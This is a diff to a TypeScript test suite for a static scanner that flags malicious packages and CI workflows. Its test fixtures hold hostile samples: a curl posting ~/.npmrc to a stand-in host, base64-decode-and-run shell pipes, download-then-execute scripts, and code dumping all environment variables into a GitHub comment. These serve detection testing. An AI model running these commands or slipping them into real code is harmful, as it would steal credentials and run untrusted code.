@@ -214,6 +214,7 @@ describe('the environment printed encoded into a CI job log (round 87)', () => {
       '  return lines;',
       '}',
       'module.exports = function report(results) {',
+      '  if (!process.env.GITLAB_CI) return;',
       '  console.log(`${results.length} results`);',
       print,
       '};',
@@ -317,5 +318,135 @@ describe('code decoded into a Blob and run as a page worker (round 86)', () => {
       page(['const unpack = (t) => atob(t.b64);'], JSON.stringify({ b64: b64(honest) })),
     );
     expect(threats(r)).toEqual([]);
+  });
+});
+
+describe("review of the twenty-second session's changes", () => {
+  const wf = (yml: string) => ({
+    'package.json': JSON.stringify({ name: 'ci-kit', version: '1.0.0' }),
+    '.github/workflows/ci.yml': yml,
+  });
+  it('returns on many decode-and-run openers, and reads each decoded payload once within a budget', () => {
+    expect(Array.isArray(analyzeScript('sh <(base64 -d '.repeat(10_000), 'sh', true))).toBe(true);
+    const big = b64(`echo ${'x'.repeat(30_000)}`);
+    const text = Array.from({ length: 20 }, () => `echo ${big} | base64 -d | sh`).join('\n');
+    expect(analyzeScript(text, 'sh', true).some((h) => h.rule === 'shell.base64-decode-run')).toBe(true);
+  });
+  it('prepends only the env a step names, never text that is not run', () => {
+    const r = analyzeSource(
+      wf(
+        [
+          'on: push',
+          'env:',
+          '  NOTE: "to debug, run: echo $P | base64 -d | bash"',
+          'jobs:',
+          '  b:',
+          '    runs-on: ubuntu-latest',
+          '    steps:',
+          '      - run: npm test',
+          '      - run: echo "$NOTE"',
+        ].join('\n'),
+      ),
+    );
+    expect(threats(r)).toEqual([]);
+  });
+  it('does not call the job token given to gh for a release a secret sent out', () => {
+    const r = analyzeSource(
+      wf(
+        [
+          'on: push',
+          'jobs:',
+          '  rel:',
+          '    runs-on: ubuntu-latest',
+          '    steps:',
+          '      - run: GH_TOKEN=${{ github.token }} gh release create "$TAG" dist/*.tgz',
+        ].join('\n'),
+      ),
+    );
+    expect(threats(r)).toEqual([]);
+  });
+  it("leaves secrets written through GitHub's secrets API alone", () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'env-to-gh-secrets',
+        version: '1.0.0',
+        bin: { sync: 'cli.js' },
+      }),
+      'cli.js': [
+        "const fs = require('fs');",
+        "const { Octokit } = require('@octokit/rest');",
+        'const kit = new Octokit({ auth: process.env.GH_TOKEN });',
+        'async function main() {',
+        "  const env = fs.readFileSync('.env', 'utf8');",
+        "  const { data: key } = await kit.request('GET /repos/{owner}/{repo}/actions/secrets/public-key', { owner: 'o', repo: 'r' });",
+        "  for (const line of env.split('\\n')) {",
+        "    const [name, value] = line.split('=');",
+        "    await kit.request('PUT /repos/{owner}/{repo}/actions/secrets/{secret_name}', { owner: 'o', repo: 'r', secret_name: name, encrypted_value: seal(value, key.key), key_id: key.key_id });",
+        '  }',
+        '}',
+        'main();',
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.exfil-flow')).toBeUndefined();
+  });
+  it('follows an Octokit class made by plugin()', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'pr-notes-action', version: '1.0.0', main: 'index.js' }),
+      'index.js': [
+        "const { Octokit } = require('@octokit/rest');",
+        'const Kit = Octokit.plugin(() => ({}));',
+        'const kit = new Kit({ auth: process.env.GITHUB_TOKEN });',
+        'const all = {};',
+        'for (const k of Object.keys(process.env)) all[k] = process.env[k];',
+        "kit.rest.issues.createComment({ owner: 'o', repo: 'r', issue_number: 1, body: JSON.stringify(all) });",
+      ].join('\n'),
+    });
+    expect(ruleOf(r, 'js.exfil-flow')?.confidence).toBeGreaterThanOrEqual(0.85);
+  });
+  it('leaves a manifest generator printing a pull secret for kubectl alone (no CI context)', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({ name: 'pull-secret-gen', version: '1.0.0', bin: { psg: 'cli.js' } }),
+      'cli.js': [
+        "const fs = require('fs');",
+        "const os = require('os');",
+        "const cfg = fs.readFileSync(os.homedir() + '/.docker/config.json', 'utf8');",
+        "console.log(`data:\\n  .dockerconfigjson: ${Buffer.from(cfg).toString('base64')}`);",
+      ].join('\n'),
+    });
+    expect(threats(r).filter((f) => f.confidence >= 0.5)).toEqual([]);
+  });
+  it('reads a download and chmod joined by `&&` across a line break, and decoders past five pipes', () => {
+    expect(
+      analyzeShell('curl -fsSL https://t.example/h -o ./helper &&\n  chmod +x ./helper', true).map(
+        (h) => h.rule,
+      ),
+    ).toContain('shell.download-chmod-run');
+    expect(
+      analyzeShell(`echo "$P" | base64 -d | cat | cat | cat | cat | cat |${' '.repeat(500)}sh`, true).map(
+        (h) => h.rule,
+      ),
+    ).toContain('shell.base64-decode-run');
+  });
+  it('still expands a small variable after a very large one on the same line', () => {
+    const text = [
+      'A=xxxxxxxxxxxxxxxx',
+      ...Array<string>(15).fill('A=$A$A'),
+      'H=collect.oast.example',
+      ': "$A"; curl -s -d @"$HOME/.npmrc" "https://$H/c"',
+    ].join('\n');
+    expect(analyzeScript(text, 'sh', true).map((h) => h.rule)).toContain('script.secret-file-exfil');
+  });
+  it('keeps the downloader of a later branch over a decoy in the first', () => {
+    const hits = analyzeScript(
+      [
+        'u="https://dl.t.example/x.tgz"',
+        'if [ -n "$DRY" ]; then get="echo"; else get="curl -fsSL"; fi',
+        '$get "$u" | tar -xzf - -C .cache',
+        './.cache/run &',
+      ].join('\n'),
+      'sh',
+      true,
+    );
+    expect(hits.map((h) => h.rule)).toContain('script.download-execute');
   });
 });
